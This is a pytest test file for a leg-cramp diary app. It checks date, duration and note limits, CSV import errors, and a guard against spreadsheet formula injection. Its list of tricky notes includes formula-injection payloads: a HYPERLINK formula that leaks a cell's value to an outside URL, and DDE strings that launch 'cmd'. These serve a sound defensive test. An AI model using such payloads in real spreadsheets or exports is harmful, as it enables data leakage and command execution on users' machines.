"""The diary's limits (domain/diary_bounds.py) where input enters: the store's API and the CSV import."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from cramp_coach.domain.diary import SessionStatus
from cramp_coach.domain.diary_bounds import MAX_SECONDS
from cramp_coach.storage.diary_csv import CsvFileError, export_csv, guard_cell, import_csv, read_csv, unguard_cell
from cramp_coach.storage.diary_store import DiaryStore

T0 = datetime(2026, 1, 12, 22, 0, tzinfo=timezone.utc)
HEADER = "type,started_at,duration_seconds,pain,note,routine_id,phases_done,seconds_done\r\n"


# --- the store's API: the app cannot write what the CSV import refuses ------------------------


@pytest.mark.parametrize(
    "when",
    [datetime(1899, 12, 31, 23, 59, tzinfo=timezone.utc), datetime(2201, 1, 1, tzinfo=timezone.utc)],
)
def test_times_outside_the_diarys_years_are_refused(diary: DiaryStore, when: datetime) -> None:
    with pytest.raises(ValueError, match="between 1900 and 2200"):
        diary.start_episode(when)
    with pytest.raises(ValueError, match="between 1900 and 2200"):
        diary.add_episode(when, leg=None, location=None, pain=None, duration_seconds=None)
    with pytest.raises(ValueError, match="between 1900 and 2200"):
        diary.start_session("bedtime", "Evening", when, phases_total=1)
    assert diary.entry_count() == 0


def test_the_first_and_last_moments_of_the_range_are_kept(diary: DiaryStore) -> None:
    diary.start_episode(datetime(1900, 1, 1, tzinfo=timezone.utc))
    diary.start_episode(datetime(2200, 12, 31, 23, 59, 59, tzinfo=timezone.utc))
    assert diary.entry_count() == 2


@pytest.mark.parametrize("seconds", [1e308, float("inf"), float("nan"), MAX_SECONDS + 1, -1])
def test_durations_a_person_gives_are_refused_beyond_a_day(diary: DiaryStore, seconds: float) -> None:
    episode = diary.start_episode(T0)
    with pytest.raises(ValueError, match="duration_seconds"):
        diary.log_episode(episode, leg=None, location=None, pain=None, duration_seconds=seconds)
    with pytest.raises(ValueError, match="duration_seconds"):
        diary.add_episode(T0, leg=None, location=None, pain=None, duration_seconds=seconds)
    assert diary.episode(episode).duration_seconds is None


def test_durations_the_app_measures_are_capped_at_a_day(diary: DiaryStore) -> None:
    # Cramp now left open for three days must not fail at its end; the player likewise.
    episode = diary.start_episode(T0)
    diary.finish_episode(episode, duration_seconds=3 * 86400.0, eased=None)
    assert diary.episode(episode).duration_seconds == MAX_SECONDS
    session = diary.start_session("bedtime", "Evening", T0, phases_total=3)
    diary.update_session_progress(session, 1, 1e308)
    assert diary.session(session).seconds_done == MAX_SECONDS
    diary.finish_session(session, T0 + timedelta(days=2), SessionStatus.STOPPED, 2, 2e9)
    assert diary.session(session).seconds_done == MAX_SECONDS


def test_notes_with_a_nul_or_beyond_the_limit_are_refused(diary: DiaryStore) -> None:
    with pytest.raises(ValueError, match="NUL"):
        diary.add_episode(T0, leg=None, location=None, pain=None, duration_seconds=None, note="a\0b")
    with pytest.raises(ValueError, match="at most 50000 characters"):
        diary.add_episode(T0, leg=None, location=None, pain=None, duration_seconds=None, note="x" * 50_001)


def test_range_queries_past_the_diarys_years_are_clamped_not_refused(diary: DiaryStore) -> None:
    diary.start_episode(T0)
    since = datetime(1, 1, 2, tzinfo=timezone.utc)
    until = datetime(9999, 12, 30, tzinfo=timezone.utc)
    assert len(diary.episodes(since=since, until=until)) == 1


# --- the CSV import: one sentence naming the file and line, nothing written --------------------


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("cramp,0001-01-01T00:00:00+05:00,,,,,,", "started_at: expected a date and time from 1900 to 2200"),
        ("cramp,9999-12-31T23:59:00-05:00,,,,,,", "started_at: expected a date and time from 1900 to 2200"),
        ("cramp,0001-01-01T00:00:00,,,,,,", "started_at: expected a date and time from 1900 to 2200"),
        ("cramp,1899-12-31T12:00:00+00:00,,,,,,", "started_at: expected a date and time from 1900 to 2200"),
        ("cramp,2026-01-01T00:00:00+00:00,1e308,,,,,", "duration_seconds: expected a number of seconds from 0"),
        ("cramp,2026-01-01T00:00:00+00:00,86401,,,,,", "duration_seconds: expected a number of seconds from 0"),
        ("cramp,2026-01-01T00:00:00+00:00,nan,,,,,", "duration_seconds: expected a number of seconds from 0"),
        ("cramp,2026-01-01T00:00:00+00:00,,11,,,,", "pain: expected a whole number from 0 to 10"),
        ("routine,2026-01-01T00:00:00+00:00,,,,r,99999999999999999999999,", "phases_done: expected a whole number"),
        ("routine,2026-01-01T00:00:00+00:00,,,,r,,1e308", "seconds_done: expected a number of seconds from 0"),
    ],
)
def test_values_outside_the_limits_are_refused_with_file_and_line(
    diary: DiaryStore, tmp_path: Path, row: str, message: str
) -> None:
    source = tmp_path / "hostile.csv"
    source.write_text(HEADER + "cramp,2026-01-01T00:00:00+00:00,,,fine,,,\r\n" + row + "\r\n", encoding="utf-8")
    with pytest.raises(CsvFileError) as caught:
        import_csv(diary, source)
    assert caught.value.problems == [f"{source}:3: {message}"] or caught.value.problems[0].startswith(
        f"{source}:3: {message}"
    )
    assert diary.entry_count() == 0  # nothing half-imported


# --- spreadsheet safety ---------------------------------------------------------------------

TRICKY_NOTES = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented with a tab",
    "\rcarriage return first",
    "'=already guarded by hand",
    "''=two apostrophes",
    "'tis the season",
    "'",
    "  leading spaces and trailing  ",
    "line one\r\nline two\nline three\r",
    'quotes "inside", and commas',
    "=",
    "-",
    "",
    "ünïcödé ☃ 🦵",
]


@pytest.mark.parametrize("note", TRICKY_NOTES)
def test_cells_a_spreadsheet_would_run_are_written_with_an_apostrophe(note: str) -> None:
    written = guard_cell(note)
    if note[:1] in ("=", "+", "-", "@", "\t", "\r") or note.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert written == "'" + note
    else:
        assert written == note
    assert unguard_cell(written) == note


def test_every_tricky_note_round_trips_byte_for_byte(diary: DiaryStore, tmp_path: Path) -> None:
    for minute, note in enumerate(TRICKY_NOTES):
        diary.add_episode(
            T0 + timedelta(minutes=minute), leg=None, location=None, pain=None, duration_seconds=None, note=note
        )
    target = tmp_path / "diary.csv"
    export_csv(diary, target)
    text = target.read_bytes().decode("utf-8")  # as import reads it: no newline translation
    records = list(csv.reader(io.StringIO(text, newline="")))
    for record in records[1:]:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in record), record
    rows = read_csv(target)
    assert [getattr(entry, "note", None) for _uid, entry in rows] == TRICKY_NOTES
